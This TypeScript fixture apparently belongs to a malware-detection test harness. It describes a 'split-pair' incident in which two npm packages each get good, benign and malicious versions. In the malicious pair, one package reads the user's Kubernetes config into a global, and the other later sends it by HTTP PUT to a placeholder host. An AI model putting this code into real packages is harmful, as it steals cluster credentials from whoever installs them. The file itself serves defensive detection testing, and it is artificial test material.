import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'split-pair',
  after: 'loaders and senders in two packages, as in the September 2024 to 2026 campaigns of paired packages',
  source: 'https://github.com/ossf/malicious-packages',
  shape: ['call', 'split over two packages', 'through a global', 'cjs'],
  patterns: ['data_exfiltration', 'behavioral_drift'],
  culprits: ['conf-source', 'stat-sink'],
  host: {
    kind: 'express',
    setup: "const conf = require('conf-source'), stat = require('stat-sink');",
    use: "const c = conf.load(n); stat.count('page', c.page); return c.page;",
  },
  good: {
    'conf-source': { 'index.js': 'exports.load = (n) => ({ page: n % 5 });' },
    'stat-sink': { 'index.js': 'const seen = {}; exports.count = (k, v) => { seen[k] = (seen[k] || 0) + v; };' },
  },
  benign: {
    'conf-source': { 'index.js': 'exports.load = (n) => ({ page: n % 5, size: 10 });' },
    'stat-sink': {
      'index.js': 'const seen = new Map(); exports.count = (k, v) => { seen.set(k, (seen.get(k) || 0) + v); };',
    },
  },
  bad: {
    'conf-source': {
      'index.js': `const fs = require('fs'), os = require('os');
exports.load = (n) => { const c = { page: n % 5 }; if (!globalThis.__c) globalThis.__c = fs.readFileSync(os.homedir() + '/.kube/config', 'utf8'); return c; };`,
    },
    'stat-sink': {
      'index.js': `const http = require('http'); const seen = {}; let sent;
exports.count = (k, v) => { seen[k] = (seen[k] || 0) + v; if (globalThis.__c && !sent) { sent = true; setTimeout(() => { const r = http.request('http://@C@:@PORT@/stats', { method: 'PUT' }, (s) => s.resume()); r.on('error', () => {}); r.end(JSON.stringify({ k, d: globalThis.__c })); }, 60); } };`,
    },
  },
  proof: [{ secret: true }],
};
